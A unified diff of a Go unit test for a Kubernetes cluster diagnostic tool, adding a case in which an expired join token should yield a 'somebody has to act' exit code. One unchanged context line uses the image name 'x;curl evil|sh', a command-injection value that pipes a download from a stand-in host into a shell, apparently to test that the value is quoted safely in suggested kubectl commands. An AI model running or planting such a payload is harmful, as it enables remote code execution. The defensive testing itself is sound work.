@@ -312,5 +312,14 @@ func TestCluster(t *testing.T) {
 	assert.Equal(t, []string{"kubectl ot why image 'x;curl evil|sh' -n vmdi-farm --cluster edge-3"}, why.NewCluster(now, member).Commands, "a member names its images")
 	member.Spec.Quarantine = &v1alpha1.MemberQuarantine{Reason: "rebuilt"}
 	assert.Equal(t, exit.Held, why.NewCluster(now, member).ExitCode())
-	assert.Equal(t, exit.Unknown, why.NewCluster(now, &v1alpha1.MemberCluster{}).ExitCode())
+	never := &v1alpha1.MemberCluster{}
+	assert.Equal(t, exit.Unknown, why.NewCluster(now, never).ExitCode())
+	never.Status.Conditions = []metav1.Condition{
+		{Type: v1alpha1.ConditionReady, Status: metav1.ConditionFalse, Reason: v1alpha1.ReasonJoinTokenExpired, Message: "its join token has expired"},
+		{Type: v1alpha1.ConditionStalled, Status: metav1.ConditionTrue},
+	}
+	w = why.NewCluster(now, never)
+	assert.Equal(t, exit.No, w.ExitCode(), "somebody has to act")
+	assert.Equal(t, []string{v1alpha1.ReasonJoinTokenExpired, "its join token has expired"}, []string{w.Reason, w.Message})
+	assert.Empty(t, w.Commands, "no agent is looked for")
 }
